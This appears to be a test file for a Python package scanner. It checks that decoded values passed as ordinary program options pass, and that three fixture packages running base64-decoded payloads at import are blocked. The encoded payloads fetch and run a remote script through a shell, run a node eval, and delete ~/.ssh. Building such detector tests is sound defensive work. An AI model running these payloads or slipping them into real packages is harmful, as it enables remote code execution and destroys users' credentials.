/**
 * A decoded value handed to a program as a named option's data is not decoded code run (shared/packages/analysis/
 * python/flow.ts, `dataOptionValue`; docs/package-analysis.md, "A deserialised reply passed back as an option"). The
 * real case is Debian's pywatchman 4.9.0 (honest, was BLOCKED as `decoded_code_exec`): the client asks the local
 * watchman daemon for its socket name, reads the BSER reply with `bser.loads`, and starts the client with
 * `--sockname=…`. Its shape is paraphrased below with two honest variants; the attack twins keep a decoded payload where
 * a program runs it as code (a shell's `-c`, `node --eval=`, a `--command=` option) and stay BLOCKED.
 * Nothing here runs: in-memory sdists.
 */
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { rate } from '../support/pypi-variant-rating.js';
import type { PypiVariant } from '../support/pypi-variants-set1.js';

const py = String.raw;
const sdist = (id: string, body: string): PypiVariant => ({
  id,
  family: 'option-data',
  note: '',
  name: id,
  version: '1.0.0',
  files: { 'PKG-INFO': `Metadata-Version: 2.1\nName: ${id}\nVersion: 1.0.0\n`, 'setup.py': `from setuptools import setup\nsetup(name="${id}", version="1.0.0", packages=["${id.replace(/-/g, '_')}"])\n`, [`${id.replace(/-/g, '_')}/__init__.py`]: body },
});

const HONEST: PypiVariant[] = [
  // the real shape: a daemon's reply deserialised, its socket name passed back as an option of the client process
  sdist('watch-client', py`import subprocess
from . import bser


class Client(object):
    def __init__(self, binpath='watchman'):
        self.binpath = binpath
        self.sockpath = None

    def _resolvesockname(self):
        cmd = [self.binpath, '--output-encoding=bser', 'get-sockname']
        p = subprocess.Popen(cmd, stdout=subprocess.PIPE)
        stdout, _ = p.communicate()
        result = bser.loads(stdout)
        return result['sockname']

    def connect(self):
        self.sockpath = self._resolvesockname()
        args = [self.binpath, '--sockname={0}'.format(self.sockpath), '--no-spawn', '-j']
        self.proc = subprocess.Popen(args, stdin=subprocess.PIPE, stdout=subprocess.PIPE)
        return self.proc
`),
  // a base64-encoded config value passed on as an f-string option
  sdist('tunnel-launcher', py`import base64, json, subprocess


def start(blob):
    cfg = json.loads(base64.b64decode(blob))
    port = cfg['port']
    return subprocess.Popen(['ssh-agent-proxy', f'--listen-port={port}', '--quiet'])
`),
  // a decoded label joined onto an option with +
  sdist('label-tool', py`import base64, subprocess


def tag(encoded):
    label = base64.b64decode(encoded).decode()
    subprocess.run(['labeller', '--name=' + label, 'apply'], check=True)
`),
];

const ATTACKS: PypiVariant[] = [
  // a decoded payload run by a shell
  sdist('sh-decoded', py`import base64, subprocess

_P = 'Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC45L3ggfCBzaA=='
subprocess.Popen(['/bin/sh', '-c', base64.b64decode(_P).decode()])
`),
  // a decoded payload given to node as --eval=
  sdist('node-eval-decoded', py`import base64, subprocess

_P = 'cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWNTeW5jKCJpZCIp'
subprocess.Popen(['node', '--eval={0}'.format(base64.b64decode(_P).decode())])
`),
  // a decoded payload as the value of a --command= option of an unknown program
  sdist('command-option-decoded', py`import base64, subprocess

_P = 'cm0gLXJmIH4vLnNzaA=='
prog = 'helper'
subprocess.Popen([prog, '--command=' + base64.b64decode(_P).decode()])
`),
];

for (const v of HONEST)
  test(`honest: ${v.id} (a decoded value as a data option) is neither BLOCKED nor CAUTION`, async () => {
    const r = await rate(v);
    assert.ok(r.level !== 'BLOCKED' && r.level !== 'CAUTION', `${v.id}: ${r.level} (${r.rules.join(', ')})`);
  });

for (const v of ATTACKS)
  test(`attack: ${v.id} (decoded code where a program runs code) is BLOCKED`, async () => {
    const r = await rate(v);
    assert.is(r.level, 'BLOCKED', `${v.id}: ${r.level} (${r.rules.join(', ')})`);
  });

test.run();
